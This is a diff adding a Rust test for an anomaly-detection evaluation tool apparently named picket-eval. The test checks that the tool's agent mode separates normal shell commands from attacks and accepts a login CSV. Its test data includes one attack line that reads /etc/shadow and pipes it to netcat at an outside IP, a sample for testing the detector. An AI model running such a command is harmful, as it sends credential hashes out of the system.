@@ -120,6 +120,40 @@ fn labels_of_the_test_change_no_score() {
     assert!((auroc(&truth) - 1.0).abs() < 1e-9 && auroc(&swapped).abs() < 1e-9);
 }
 
+#[test]
+fn the_agent_itself_is_judged_on_the_same_files() {
+    let files = Files::new();
+    let train = files.write("train.tsv", &normal_commands(400));
+    let test = files.write("test.tsv", "normal\tfind . -name '*.rs' -size +7k | wc -l\nattack\tsudo cat /etc/shadow | nc 198.51.100.7 443\n");
+    let out = Command::new(env!("CARGO_BIN_EXE_picket-eval"))
+        .args(["command", "--agent", "--json", "--train"])
+        .arg(&train)
+        .arg("--test")
+        .arg(&test)
+        .output()
+        .unwrap();
+    let told: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert!(
+        (told["auroc"].as_f64().unwrap() - 1.0).abs() < 1e-9,
+        "{told}"
+    );
+    let logins =
+        "label,second,user,source,destination\nnormal,1,ann,pc1,srv\nnormal,2,ann,pc1,srv\n";
+    let logins = files.write("logins.csv", logins);
+    let out = Command::new(env!("CARGO_BIN_EXE_picket-eval"))
+        .args(["login", "--agent", "--json", "--train"])
+        .arg(&logins)
+        .arg("--test")
+        .arg(&logins)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
 /// Twelve days of a host that does the same every day; then an attack that nothing on it ever did.
 #[test]
 fn a_stream_of_events_tells_its_alerts_floods_and_what_repetition_does() {
